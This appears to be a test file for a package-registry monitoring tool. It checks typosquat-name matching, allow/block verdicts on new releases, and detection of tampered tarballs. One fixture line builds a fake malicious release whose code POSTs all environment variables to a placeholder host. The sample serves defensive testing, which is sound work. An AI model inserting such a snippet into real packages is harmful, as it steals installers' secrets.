import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { library, manifest, with_ } from '../../doors/packages/incidents/incident.ts'
import { fakeRegistry, type FakeRegistry } from '../../http/registry/testing/fake-registry.ts'
import { rows } from '../house.ts'
import type { JobName } from '../queue.ts'
import { testedHouse, type TestedHouse } from '../testing/house.ts'
import { concerns, follow, judgeReleases, type FollowSettings } from './follow.ts'
import { PackageShelf } from './shelf.ts'

let upstream: FakeRegistry
let tested: TestedHouse
let settings: FollowSettings

before(async () => {
  upstream = await fakeRegistry()
  tested = await testedHouse()
  settings = { registry: upstream.url, feed: `${upstream.url}/_changes`, also: ['lib-a'] }
})
after(async () => {
  await tested.close()
  await upstream.stop()
})

const theft = "require('https').request({ hostname: 'x.example', method: 'POST' }).end(JSON.stringify(process.env));"
const good = (name: string, version: string) => ({ 'package.json': manifest(name, version), 'index.js': library })
const bad = (name: string, version: string) => ({ 'package.json': manifest(name, version), 'index.js': with_(theft) })

/** The queue by hand: what was put on it, so that two workers can take from it. */
function watchedQueue(): { taken: { name: JobName; data: unknown }[]; house: TestedHouse['house'] } {
  const taken: { name: JobName; data: unknown }[] = []
  const keys = new Set<string>()
  const queue = {
    ...tested.house.queue,
    add: async (_trx: unknown, name: JobName, data: unknown, key?: string): Promise<void> => {
      if (key !== undefined && keys.has(`${name} ${key}`)) return
      keys.add(`${name} ${key ?? taken.length}`)
      taken.push({ name, data })
    },
  }
  return { taken, house: { ...tested.house, queue } as TestedHouse['house'] }
}

test('what concerns us: our names, and names almost like them', () => {
  const ours = new Set(['lodash', '@team/wallet'])
  for (const name of ['lodash', 'lodahs', 'lodash-js', 'wallet', '@evil/wallet'])
    assert.equal(concerns(name, ours), true, name)
  for (const name of ['express', 'left-pad']) assert.equal(concerns(name, ours), false, name)
})

test('the feed is read from where it was left, and each release is judged once against the one before', async () => {
  const shelf = new PackageShelf(rows(tested.house), tested.org)
  upstream.publish('lib-a', '1.4.0', good('lib-a', '1.4.0'))
  upstream.publish('unrelated', '1.0.0', good('unrelated', '1.0.0'))
  upstream.publish('lib-a', '1.4.1', bad('lib-a', '1.4.1'))
  const { taken, house } = watchedQueue()
  assert.equal(await follow(house, { org: tested.org }, settings), false)
  assert.deepEqual(taken, [{ name: 'release', data: { org: tested.org, name: 'lib-a' } }])
  assert.equal(await shelf.cursor(), 3)

  await Promise.all([
    judgeReleases(house, { org: tested.org, name: 'lib-a' }, settings),
    judgeReleases(house, { org: tested.org, name: 'lib-a' }, settings),
  ])
  const releases = await shelf.releasesOf('lib-a')
  assert.deepEqual(releases.map(({ version, verdict }) => [version, verdict?.verdict]).sort(), [
    ['1.4.0', 'allow'],
    ['1.4.1', 'block'],
  ])
  assert.equal(releases.find(({ version }) => version === '1.4.1')?.verdict?.baseline?.version, '1.4.0')

  taken.length = 0
  await follow(house, { org: tested.org }, settings)
  assert.deepEqual(taken, [])
})

test('names of the projects’ lockfiles are followed too', async () => {
  const shelf = new PackageShelf(rows(tested.house), tested.org)
  await shelf.putProject({
    name: 'shop',
    lockfile: JSON.stringify({
      lockfileVersion: 3,
      packages: { '': {}, 'node_modules/unrelated': { version: '1.0.0' } },
    }),
    at: 0,
  })
  upstream.publish('unrelated', '1.0.1', good('unrelated', '1.0.1'))
  const { taken, house } = watchedQueue()
  await follow(house, { org: tested.org }, settings)
  assert.deepEqual(
    taken.map(({ data }) => (data as { name: string }).name),
    ['unrelated'],
  )
})

test('a registry that is down is tried again; one that lies is noted, not trusted', async () => {
  upstream.fail(503)
  await assert.rejects(follow(tested.house, { org: tested.org }, settings), { code: 'SP_REGISTRY' })
  upstream.fail(null)
  upstream.publish('lib-a', '1.5.0', good('lib-a', '1.5.0'))
  upstream.tamper('lib-a', '1.5.0', bad('lib-a', '1.5.0'))
  await judgeReleases(tested.house, { org: tested.org, name: 'lib-a' }, settings)
  const release = await new PackageShelf(rows(tested.house), tested.org).release('lib-a', '1.5.0')
  assert.equal(release?.verdict, null)
  assert.match(release?.problem ?? '', /hash differs/)
})
